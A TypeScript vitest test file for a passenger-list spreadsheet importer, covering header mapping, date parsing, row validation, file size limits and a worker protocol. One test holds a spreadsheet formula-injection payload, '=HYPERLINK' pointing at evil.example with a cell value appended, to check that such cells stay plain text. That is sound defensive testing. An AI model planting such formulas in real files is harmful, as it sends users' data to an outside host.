import * as XLSX from 'xlsx';
import { describe, expect, it } from 'vitest';
import { handleSheetRequest, parsePassengerSheet } from '../excel/parsePassengerSheet';
import {
  applyServerErrors, dateOrderOf, loadVerdict, mapHeaders, readDate, type PassengerCatalogs,
} from '../excel/passengerRows';
import type { SheetRequest, SheetResponse } from '../excel/passengerSheetProtocol';
import { runSheetWorker } from '../excel/runSheetWorker';

const option = (id: string, code: string, name: string, shortName = code) => ({ id, code, name, shortName });
const catalogs: PassengerCatalogs = {
  passengerTypes: [option('t-adt', 'ADULT', 'Adult', 'ADT'), option('t-chd', 'CHILD', 'Child', 'CHD')],
  documentTypes: [option('d-pas', 'PASSPORT', 'Passport'), option('d-dni', 'DNI', 'National identity document')],
  genders: [option('g-f', 'FEMALE', 'Female', 'F'), option('g-m', 'MALE', 'Male', 'M')],
  countries: [option('c-pe', 'PE', 'Peru', 'PER'), option('c-es', 'ES', 'España', 'ESP')],
};
const TODAY = '2026-11-23';
const HEADERS = ['Passenger type', 'First name', 'Last name', 'Document type', 'Document number', 'Citizenship', 'Gender', 'Birth date'];

/** A real .xlsx file, as Excel would save it. */
function xlsxFile(rows: unknown[][]): ArrayBuffer {
  const workbook = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(workbook, XLSX.utils.aoa_to_sheet(rows), 'Passengers');
  return XLSX.write(workbook, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer;
}
const csvFile = (text: string) => new TextEncoder().encode(text).buffer as ArrayBuffer;
const parse = (fileName: string, bytes: ArrayBuffer, dateOrder: 'DMY' | 'MDY' = 'DMY') =>
  parsePassengerSheet({ type: 'parse', fileName, bytes, catalogs, today: TODAY, dateOrder });
const goodRows = (n: number) => Array.from({ length: n }, (_, i) =>
  ['Adult', `Ana ${i}`, 'García', 'PASSPORT', `X${1000 + i}`, 'Peru', 'F', '1990-05-14']);
const rowsOf = (response: SheetResponse) => {
  if (response.type !== 'parsed') throw new Error(`expected rows, got ${JSON.stringify(response)}`);
  return response.rows;
};

describe('header mapping', () => {
  it('reads English and Spanish headers, accents and case ignored', () => {
    expect(mapHeaders(['Tipo de pasajero', 'NOMBRES', 'Apellidos', 'Tipo documento', 'Número de documento', 'Nacionalidad', 'Sexo', 'Fecha de nacimiento']))
      .toEqual({ columns: ['passengerType', 'firstName', 'lastName', 'documentType', 'documentNumber', 'citizenship', 'gender', 'birthDate'], missing: [] });
    expect(mapHeaders(['First name', 'Whatever']).missing).toEqual(['passengerType', 'lastName', 'documentType', 'documentNumber']);
  });

  it('reads ISO and day-first dates and refuses impossible ones', () => {
    expect(readDate('2001-02-03')).toBe('2001-02-03');
    expect(readDate('03/02/2001')).toBe('2001-02-03');
    expect(readDate('31/02/2001')).toBeNull();
    expect(readDate('yesterday')).toBeNull();
  });
});

describe('birth dates as people type them (issue 21 item 6)', () => {
  it.each([
    ['14/05/1990', '1990-05-14'], ['14.05.1990', '1990-05-14'], ['14-05-1990', '1990-05-14'], ['4/5/1990', '1990-05-04'],
    ['14/05/90', '1990-05-14'], ['03/02/15', '2015-02-03'], ['1990/05/14', '1990-05-14'],
    ['14-may-1990', '1990-05-14'], ['14 May 1990', '1990-05-14'], ['May 14, 1990', '1990-05-14'],
    ['14 de mayo de 1990', '1990-05-14'], ['3 de setiembre de 2001', '2001-09-03'], ['3-ene-01', '2001-01-03'],
  ])('%s on a day-first page is %s', (text, iso) => {
    expect(readDate(text, 'DMY', TODAY)).toBe(iso);
  });

  it('reads numbers month first on a month-first (en-US) page, and knows which order each locale writes', () => {
    expect(readDate('05/14/1990', 'MDY', TODAY)).toBe('1990-05-14');
    expect(readDate('14/05/1990', 'MDY', TODAY)).toBeNull();
    expect(dateOrderOf('en-US')).toBe('MDY');
    expect(dateOrderOf('es-419')).toBe('DMY');
    expect(dateOrderOf('es-PE')).toBe('DMY');
  });

  it('takes real Excel date cells and dd/mm/yyyy text in one .xlsx file', () => {
    // What Excel saves for a typed date: a serial with a date number format (here with a time part, as a local
    // midnight east of UTC leaves it), next to the same day typed as text.
    const sheet = XLSX.utils.aoa_to_sheet([HEADERS, goodRows(1)[0], goodRows(2)[1]]);
    sheet.H2 = { t: 'n', v: 33007.375, z: 'm/d/yy' };
    sheet.H3 = { t: 's', v: '14/05/1990' };
    const workbook = XLSX.utils.book_new();
    XLSX.utils.book_append_sheet(workbook, sheet, 'P');
    const rows = rowsOf(parse('pax.xlsx', XLSX.write(workbook, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer));
    expect(rows.map((r) => r.problems)).toEqual([{}, {}]);
    expect(rows.map((r) => r.input?.birthDate)).toEqual(['1990-05-14', '1990-05-14']);
  });

  it('names the row and the cell of a date it cannot read', () => {
    const rows = rowsOf(parse('pax.xlsx', xlsxFile([HEADERS, goodRows(1)[0], [...goodRows(2)[1].slice(0, 7), 'next spring']])));
    expect(rows[1]).toMatchObject({ sheetRow: 3, problems: { birthDate: 'invalidDate' }, cellRefs: { birthDate: 'H3', firstName: 'B3' } });
  });
});

describe('Excel passenger load', () => {
  it('a good .xlsx file gives ten valid rows, catalog names and codes turned into ids, and may be saved', () => {
    const rows = rowsOf(parse('pax.xlsx', xlsxFile([HEADERS, ...goodRows(10)])));
    expect(rows).toHaveLength(10);
    expect(rows[0]).toMatchObject({
      sheetRow: 2, problems: {},
      input: { idPassengerType: 't-adt', firstName: 'Ana 0', idDocumentType: 'd-pas', idCitizenship: 'c-pe', idGender: 'g-f', birthDate: '1990-05-14' },
    });
    const verdict = loadVerdict(rows, 10);
    expect(verdict.ok && verdict.passengers).toHaveLength(10);
  });

  it('a good .csv file with Spanish headers is read too', () => {
    const csv = 'Tipo,Nombre,Apellido,Tipo de documento,Documento,País,Sexo,Fecha de nacimiento\nCHD,Luis,Pérez,DNI,12345678,España,M,14/05/2015\n';
    expect(rowsOf(parse('pax.csv', csvFile(csv)))[0].input).toMatchObject({ idPassengerType: 't-chd', idCitizenship: 'c-es', birthDate: '2015-05-14' });
  });

  it('bad rows come back with a reason per cell and block the whole load', () => {
    const rows = rowsOf(parse('pax.xlsx', xlsxFile([
      HEADERS,
      goodRows(1)[0],
      ['Alien', '', 'García', 'PASSPORT', 'X 1', 'Narnia', 'F', '2999-01-01'],
      ['Adult', 'Eva', 'Ruiz', 'PASSPORT', '#bad#', 'Peru', 'F', '31/02/1990'],
      ['Adult', 'Ana', 'Copy', 'PASSPORT', 'X1000', '', '', ''],
    ])));
    expect(rows.map((r) => r.problems)).toEqual([
      {},
      { passengerType: 'unknownChoice', firstName: 'required', citizenship: 'unknownChoice', birthDate: 'futureDate' },
      { documentNumber: 'documentCharacters', birthDate: 'invalidDate' },
      { documentNumber: 'duplicateDocument' },
    ]);
    expect(rows.map((r) => r.sheetRow)).toEqual([2, 3, 4, 5]);
    expect(loadVerdict(rows, 50)).toEqual({ ok: false, reason: 'badRows' });
  });

  it('more passengers than the reservation has room for is refused before anything is sent', () => {
    const rows = rowsOf(parse('pax.xlsx', xlsxFile([HEADERS, ...goodRows(6)])));
    expect(loadVerdict(rows, 5)).toEqual({ ok: false, reason: 'maxExceeded' });
  });

  it('a 5 MB junk file is refused by size, without being parsed', () => {
    const junk = new Uint8Array(5 * 1024 * 1024);
    for (let i = 0; i < junk.length; i++) junk[i] = (i * 7919) % 251;
    const started = performance.now();
    expect(parse('junk.xlsx', junk.buffer)).toEqual({ type: 'failed', reason: 'tooLarge' });
    expect(parse('junk.csv', junk.buffer)).toEqual({ type: 'failed', reason: 'tooLarge' });
    // Refused on its size: far quicker than parsing 5 MB would be.
    expect(performance.now() - started).toBeLessThan(50);
  });

  it('a small junk file or a wrong extension fails cleanly', () => {
    const junk = new Uint8Array(4096).map((_, i) => (i * 31) % 256);
    expect(['unreadable', 'missingColumns', 'noRows']).toContain((parse('junk.xlsx', junk.buffer) as { reason: string }).reason);
    expect(parse('pax.exe', csvFile('x'))).toEqual({ type: 'failed', reason: 'unsupportedType' });
  });

  it("a '=HYPERLINK(...)' cell is kept as plain text, in a string cell, a formula cell and a CSV", () => {
    const injection = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const sheet = XLSX.utils.aoa_to_sheet([HEADERS, goodRows(1)[0], goodRows(2)[1]]);
    sheet.B2 = { t: 's', v: injection };
    sheet.C3 = { t: 's', v: 'ignored cached value', f: 'HYPERLINK("http://evil.example","x")' };
    const workbook = XLSX.utils.book_new();
    XLSX.utils.book_append_sheet(workbook, sheet, 'P');
    const rows = rowsOf(parse('pax.xlsx', XLSX.write(workbook, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer));
    expect(rows[0].input?.firstName).toBe(injection);
    expect(rows[1].input?.lastName).toBe('=HYPERLINK("http://evil.example","x")');

    const csv = `${HEADERS.join(',')}\nAdult,"=HYPERLINK(""http://evil.example"",""x"")",García,PASSPORT,X1,PE,F,\n`;
    expect(rowsOf(parse('pax.csv', csvFile(csv)))[0].input?.firstName).toBe('=HYPERLINK("http://evil.example","x")');
  });

  it("maps the server's row errors back onto the preview", () => {
    const rows = rowsOf(parse('pax.xlsx', xlsxFile([HEADERS, ...goodRows(2)])));
    const mapped = applyServerErrors(rows, [
      { path: 'passengers.1.documentNumber', code: 'DUPLICATE', params: { documentNumber: 'X2' } },
      { path: 'passengers.1.birthDate', code: 'FUTURE_DATE', params: {} },
    ]);
    expect(mapped[1]).toMatchObject({ input: null, problems: { documentNumber: 'duplicateDocument', birthDate: 'futureDate' } });
    expect(mapped[0].input).not.toBeNull();
  });

  it('the template is an .xlsx file the load itself accepts', () => {
    const template = handleSheetRequest({ type: 'template' });
    if (template.type !== 'template') throw new Error('no template');
    const rows = rowsOf(parse('template.xlsx', template.bytes));
    expect(rows[0].problems).toEqual({});
    expect(rows[0].cells.firstName).toBe('Ana');
  });
});

describe('worker protocol', () => {
  /** A stand-in Worker that answers with the real handler, as passengerSheet.worker.ts does. */
  class FakeWorker {
    onmessage: ((event: MessageEvent<SheetResponse>) => void) | null = null;
    onerror: (() => void) | null = null;
    terminated = false;
    constructor(private readonly hang = false) {}
    postMessage(request: SheetRequest) {
      if (this.hang) return;
      queueMicrotask(() => this.onmessage?.({ data: handleSheetRequest(request) } as MessageEvent<SheetResponse>));
    }
    terminate() { this.terminated = true; }
  }

  it('answers a parse request and terminates the worker', async () => {
    const worker = new FakeWorker();
    const response = await runSheetWorker(
      { type: 'parse', fileName: 'pax.xlsx', bytes: xlsxFile([HEADERS, ...goodRows(3)]), catalogs, today: TODAY },
      () => worker as unknown as Worker,
    );
    expect(rowsOf(response)).toHaveLength(3);
    expect(worker.terminated).toBe(true);
  });

  it('kills a worker that does not answer in time', async () => {
    const worker = new FakeWorker(true);
    const response = await runSheetWorker({ type: 'template' }, () => worker as unknown as Worker, 20);
    expect(response).toEqual({ type: 'failed', reason: 'timeout' });
    expect(worker.terminated).toBe(true);
  });
});
